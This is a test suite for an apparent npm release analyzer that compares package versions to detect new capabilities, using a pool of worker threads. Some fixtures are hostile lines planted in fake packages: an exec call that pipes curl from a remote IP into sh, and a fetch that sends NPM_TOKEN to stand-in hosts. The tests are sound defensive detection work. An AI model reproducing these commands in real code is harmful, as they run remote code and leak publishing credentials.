import { randomBytes } from 'node:crypto';
import { Readable } from 'node:stream';
import { afterEach, describe, expect, it } from 'vitest';
import { analyzeRelease, type ArtifactSource } from '../../src/analyzer/index.js';
import { AnalysisPool } from '../../src/quarantine/analysis-pool.js';
import { analysisWorkerBundle } from '../../src/quarantine/analysis-worker-bundle.js';
import { tgzBuffer } from '../helpers/build-archives.js';
import { heavyCode } from './heavy-code.js';

function tarball(version: string, files: Record<string, string>): ArtifactSource[] {
  const bytes = tgzBuffer([
    { path: 'package/package.json', data: JSON.stringify({ name: 'demo', version }) },
    ...Object.entries(files).map(([p, data]) => ({ path: `package/${p}`, data })),
  ]);
  return [{ filename: `demo-${version}.tgz`, open: async () => Readable.from([bytes]) }];
}

const files = (n: number, changed: Record<string, string> = {}) => {
  const out: Record<string, string> = {};
  for (let i = 0; i < n; i++) out[`lib/m${i}.js`] = `module.exports = function m${i}(x) { return x + ${i}; };\n`;
  return { ...out, ...changed };
};

/** 100 files of content new to this version, so large that the tarball is profiled apart from its job (over 256 KiB compressed). */
const large = (version: string) => {
  const out: Record<string, string> = {};
  for (let i = 0; i < 100; i++) out[`lib/m${i}.js`] = `module.exports = ${JSON.stringify(randomBytes(3000).toString('hex'))};\n`;
  return tarball(version, out);
};

let pool: AnalysisPool | null = null;
afterEach(async () => {
  await pool?.close();
  pool = null;
});

describe('the analysis pool', () => {
  it('starts its workers from the analyzer bundled into one module, and they find what the analyzer in this thread finds', async () => {
    const problems: string[] = [];
    const bundle = await analysisWorkerBundle((m) => problems.push(m));
    expect(problems).toEqual([]);
    expect(bundle?.protocol).toBe('data:');
    pool = new AnalysisPool({ size: 1 });
    await new Promise((resolve) => setImmediate(resolve));
    const v1 = tarball('1.0.0', files(3));
    const v2 = tarball('1.1.0', files(3, { 'lib/m0.js': "require('child_process').exec('curl http://203.0.113.9/x | sh');\n" }));
    const inWorker = await pool.analyze({ ecosystem: 'npm', previous: v1, candidate: v2 });
    const here = await analyzeRelease({ ecosystem: 'npm', previous: v1, candidate: v2 });
    expect(pool.started).toEqual({ bundle: 1, loader: 0 });
    expect(inWorker.findings.map((f) => f.kind).sort()).toEqual(here.findings.map((f) => f.kind).sort());
    expect(inWorker.findings.length).toBeGreaterThan(0);
  });

  it('never profiles a baseline file again once any worker has profiled it', async () => {
    pool = new AnalysisPool({ size: 2 });
    const v1 = tarball('1.0.0', files(40));
    const v2 = tarball('1.1.0', files(40, { 'lib/m0.js': 'module.exports = 0;\n' }));
    const v3 = tarball('1.2.0', files(40, { 'lib/m0.js': 'module.exports = 0;\n', 'lib/m1.js': 'module.exports = 1;\n' }));
    const first = await pool.analyze({ ecosystem: 'npm', previous: v1, candidate: v2 });
    expect(first.findings.filter((f) => f.kind === 'analysis-error')).toEqual([]);
    // 40 files of 1.0.0 plus the one changed in 1.1.0 (package.json is metadata, not profiled).
    expect(pool.stats.profilesComputed).toBe(41);

    // 1.1.0 is now the baseline: only the one file new in 1.2.0 is profiled.
    await pool.analyze({ ecosystem: 'npm', previous: v2, candidate: v3 });
    expect(pool.stats.profilesComputed).toBe(42);
    expect(pool.stats.profilesSent).toBeGreaterThanOrEqual(40);
  });

  it('profiles an artifact two analyses need at the same time once, its files split over every worker', async () => {
    pool = new AnalysisPool({ size: 2 });
    const [v1, v2, v3] = [large('1.0.0'), large('1.1.0'), large('1.2.0')];
    // 1.1.0 is the candidate of one and the baseline of the other, as at first sight of a package.
    const results = await Promise.all([
      pool.analyze({ ecosystem: 'npm', previous: v1, candidate: v2 }),
      pool.analyze({ ecosystem: 'npm', previous: v2, candidate: v3 }),
    ]);
    for (const result of results) expect(result.findings.filter((f) => f.kind === 'analysis-error')).toEqual([]);
    // Every file of the three tarballs once; twice for 1.1.0's would be 400.
    expect(pool.stats.profilesComputed).toBe(300);
    // Three tarballs, each in two halves at once.
    expect(pool.stats.profileTasks).toBe(6);
    // Analyzed again later (a re-analysis): nothing is profiled.
    await pool.analyze({ ecosystem: 'npm', previous: v2, candidate: v3 });
    expect(pool.stats.profilesComputed).toBe(300);
    expect(pool.stats.profileTasks).toBe(6);
  });

  it('finds in a large artifact profiled over several workers exactly what one analysis in this thread finds', async () => {
    pool = new AnalysisPool({ size: 2 });
    const v1 = large('1.0.0');
    const added: Record<string, string> = {};
    for (let i = 0; i < 100; i++) added[`lib/m${i}.js`] = `module.exports = ${JSON.stringify(randomBytes(3000).toString('hex'))};\n`;
    // New capabilities in a few files, wherever their content hash puts them.
    for (let i = 0; i < 6; i++)
      added[`lib/hook${i}.js`] = `const cp = require('child_process');\ncp.exec('curl -s https://collect${i}.example.invalid/x | sh');\nfetch('https://${i}.example.invalid/' + process.env.NPM_TOKEN);\n`;
    const v2 = tarball('1.1.0', added);
    const here = await analyzeRelease({ ecosystem: 'npm', previous: v1, candidate: v2 });
    expect(here.findings.length).toBeGreaterThan(0);
    const there = await pool.analyze({ ecosystem: 'npm', previous: v1, candidate: v2 });
    expect(pool.stats.profileTasks).toBe(4);
    expect(there).toEqual(here);
  });

  it('runs the analysis a client waits for ahead of background analyses queued before it', async () => {
    pool = new AnalysisPool({ size: 1 });
    const finished: string[] = [];
    const track = (name: string, run: Promise<unknown>) => run.then(() => finished.push(name));
    // Keeps the one worker busy (starting, then profiling) while the two others queue; small enough to be one job.
    const busy = track('busy', pool.analyze({ ecosystem: 'npm', candidate: tarball('1.0.0', { 'index.js': heavyCode(5_000) }) }));
    await new Promise((resolve) => setTimeout(resolve, 50));
    const background = track('background', pool.analyze({ ecosystem: 'npm', candidate: tarball('2.0.0', files(2)) }));
    const waited = track('waited', pool.analyze({ ecosystem: 'npm', candidate: tarball('3.0.0', files(2)) }, { urgent: true }));
    await Promise.all([busy, background, waited]);
    expect(finished).toEqual(['busy', 'waited', 'background']);
  });

  it('fails only the analysis whose worker runs out of memory, and keeps analyzing', async () => {
    pool = new AnalysisPool({ size: 1, maxOldGenerationMb: 24 });
    const huge = tarball('9.0.0', { 'index.js': heavyCode(150_000) });
    await expect(pool.analyze({ ecosystem: 'npm', candidate: huge })).rejects.toThrow('the analysis ran out of memory (limit 24 MB)');
    expect(pool.stats.workerFailures).toBe(1);
    const next = await pool.analyze({ ecosystem: 'npm', candidate: tarball('1.0.0', files(2)) });
    expect(next.findings.map((f) => f.kind)).toContain('new-package');
  });
});
